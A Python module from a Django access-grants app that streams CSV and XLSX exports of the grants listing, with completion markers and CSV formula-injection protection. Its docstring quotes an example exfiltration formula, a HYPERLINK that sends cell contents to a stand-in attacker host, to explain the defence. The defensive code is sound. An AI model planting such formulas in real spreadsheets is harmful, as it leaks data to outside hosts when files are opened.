"""CSV and XLSX export of the grants listing: streamed in bounded memory, never silently cut,
and safe to open in a spreadsheet (docs/performance.md#grants-listing-and-export).

**Bounded memory.** Rows are read with ``QuerySet.iterator(chunk_size=EXPORT_CHUNK_SIZE)``
as plain tuples (no model instances; a server-side cursor on PostgreSQL), so memory does not
grow with the number of grants. The CSV file is sent while it is read
(``StreamingHttpResponse``); an XLSX file is written to a temporary file on disk first and
sent from there with its size, and is limited to :data:`XLSX_MAX_ROWS` rows.

**Never silently cut.** A streamed download can stop half-way (a worker timeout, a lost
connection). The CSV file's last line is :func:`end_marker` ("# End of export: N grants."),
written only after the last row; a file without it is incomplete. A database error while
streaming ends the file with :func:`error_marker` instead, and is logged.

**Formulas.** A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is a formula to Excel, LibreOffice and Google Sheets when it comes from a CSV file ("CSV
injection"): a name such as ``=HYPERLINK("http://evil.example/?"&A1)`` would run when an
editor opens the export. Such text cells get a leading ``'``, which the spreadsheet shows as
text. In XLSX, cells are typed: text is stored as text, so the value is kept as it is there.
"""

from __future__ import annotations

import csv
import datetime
import io
import logging
import tempfile
from collections.abc import Iterable, Iterator

from django.db.models import Case, Count, IntegerField, OuterRef, Subquery, When
from django.db.models.functions import Coalesce
from django.http import FileResponse, StreamingHttpResponse
from django.utils import timezone
from django.utils.translation import gettext as _
from django.utils.translation import ngettext
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

from .. import moments
from ..models import Grant, Seat
from .filters import STATUS_CHOICES, status_at

__all__ = [
    "COLUMNS",
    "EXPORT_CHUNK_SIZE",
    "FORMULA_PREFIXES",
    "XLSX_MAX_ROWS",
    "csv_response",
    "end_marker",
    "error_marker",
    "export_rows",
    "neutralise",
    "stream_csv",
    "xlsx_response",
]

logger = logging.getLogger("wagtail_member_access")

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

#: Rows fetched from the database at a time (and written to the CSV stream at a time).
EXPORT_CHUNK_SIZE = 2000

#: The most rows an XLSX export takes. A spreadsheet library builds XLSX at a few thousand
#: rows a second, and the file must be complete before it is sent: beyond this, the editor
#: is told to download CSV (which streams any number of rows) or to narrow the filters.
XLSX_MAX_ROWS = 50_000

#: The exported columns: the listing's ``list_export`` names, in order.
COLUMNS = [
    "email",
    "name",
    "access_list",
    "status",
    "starts_at",
    "expires_at",
    "revoked_at",
    "last_access_at",
    "source",
    "reference",
    "note",
    "created_at",
    "seats",
    "seats_used",
]

# What each column reads from the database, in the same order: the list's name for
# ``access_list``; ``status`` reads nothing of its own (it is computed from the three dates).
_FIELDS = [
    "access_list__name" if column == "access_list" else column
    for column in COLUMNS
    if column != "status"
]


def _with_seats_used(queryset):
    """``seats_used`` on each grant: its seats taken for a domain grant, None for an address
    (whose row never runs the subquery: the seat index is read for domain grants only)."""
    count = (
        Seat.objects.filter(grant=OuterRef("pk"))
        .order_by()
        .values("grant")
        .annotate(n=Count("pk"))
        .values("n")
    )
    taken = Subquery(count, output_field=IntegerField())
    return queryset.annotate(
        seats_used=Case(
            When(email__startswith="@", then=Coalesce(taken, 0)),
            default=None,
            output_field=IntegerField(),
        )
    )


def neutralise(value):
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def end_marker(count: int) -> str:
    """The CSV file's last line, written after its last row: without it, the file is cut."""
    return ngettext(
        "# End of export: %(count)s grant.", "# End of export: %(count)s grants.", count
    ) % {"count": count}


def error_marker(count: int) -> str:
    """The CSV file's last line when reading the grants failed after ``count`` rows."""
    return ngettext(
        "# Export incomplete: an error stopped it after %(count)s grant. Download it again.",
        "# Export incomplete: an error stopped it after %(count)s grants. Download it again.",
        count,
    ) % {"count": count}


def _local(value: datetime.datetime | None) -> datetime.datetime | None:
    """A moment in the site's time zone, without a time zone (what a spreadsheet shows)."""
    if value is None:
        return None
    if timezone.is_aware(value):
        value = timezone.make_naive(value)
    return value.replace(microsecond=0)


def _expiry(value: datetime.datetime | None) -> datetime.date | datetime.datetime | None:
    """An expiry at midnight as the last day it includes (docs/expiry.md#shown): a file
    that says 2031-01-31 means until the end of that day, as the import reads it back."""
    day = moments.last_day(value)
    return day if day is not None else _local(value)


def export_rows(queryset, at: datetime.datetime | None = None) -> Iterator[list]:
    """One list of values per grant of ``queryset`` in :data:`COLUMNS` order, read
    :data:`EXPORT_CHUNK_SIZE` rows at a time. Moments are in the site's time zone; the
    status is the one at ``at`` (default: now) for every row, so the file is one snapshot."""
    at = at or timezone.now()
    labels = {key: str(label) for key, label in STATUS_CHOICES}
    sources = {key: str(label) for key, label in Grant.Source.choices}
    values = _with_seats_used(queryset).values_list(*_FIELDS)
    for row in values.iterator(chunk_size=EXPORT_CHUNK_SIZE):
        email, name, list_name, starts, expires, revoked, access, source, ref, note, made = row[:11]
        yield [
            email,
            name,
            list_name,
            labels[status_at(revoked, starts, expires, at)],
            _local(starts),
            _expiry(expires),
            _local(revoked),
            _local(access),
            sources.get(source, source),
            ref,
            note,
            _local(made),
            *row[11:],  # seats, seats used (domain grants; empty for an address)
        ]


def _csv_cell(value):
    if isinstance(value, datetime.datetime):
        return value.strftime("%Y-%m-%d %H:%M")  # what the import reads back
    if isinstance(value, datetime.date):
        return value.isoformat()
    if value is None:
        return ""
    return neutralise(value)


def stream_csv(headings: list[str], rows: Iterable[list]) -> Iterator[bytes]:
    """The CSV file, UTF-8, a batch of rows at a time: the headings, every row once, then
    :func:`end_marker`. When reading the rows fails, the file ends with
    :func:`error_marker` instead (and the error is logged)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(headings)
    count = 0
    try:
        for row in rows:
            writer.writerow([_csv_cell(value) for value in row])
            count += 1
            if count % EXPORT_CHUNK_SIZE == 0:
                yield _drain(buffer)
    except Exception:
        logger.exception("The grants export stopped after %s rows.", count)
        writer.writerow([error_marker(count)])
        yield _drain(buffer)
        return
    writer.writerow([end_marker(count)])
    yield _drain(buffer)


def _drain(buffer: io.StringIO) -> bytes:
    data = buffer.getvalue().encode()
    buffer.seek(0)
    buffer.truncate()
    return data


def csv_response(headings: list[str], rows: Iterable[list], filename: str):
    response = StreamingHttpResponse(stream_csv(headings, rows), content_type="text/csv")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response


def xlsx_response(headings: list[str], rows: Iterable[list], filename: str) -> FileResponse:
    """The XLSX file, written to a temporary file (openpyxl's write-only mode keeps one row
    in memory) and sent with its size, so a cut transfer shows as a failed download."""
    workbook = Workbook(write_only=True, iso_dates=True)
    sheet = workbook.create_sheet(title=_("Grants")[:31])
    sheet.append(headings)
    for row in rows:
        cells = []
        for value in row:
            cell = WriteOnlyCell(sheet, value)
            if cell.data_type == "f":
                cell.data_type = "s"  # text that looks like a formula stays text
            if isinstance(value, datetime.datetime):
                cell.number_format = "yyyy-mm-dd hh:mm"
            elif isinstance(value, datetime.date):
                cell.number_format = "yyyy-mm-dd"
            cells.append(cell)
        sheet.append(cells)
    output = tempfile.TemporaryFile()  # noqa: SIM115 (FileResponse closes it when sent)
    workbook.save(output)
    output.seek(0)
    return FileResponse(
        output,
        as_attachment=True,
        content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        filename=f"{filename}.xlsx",
    )
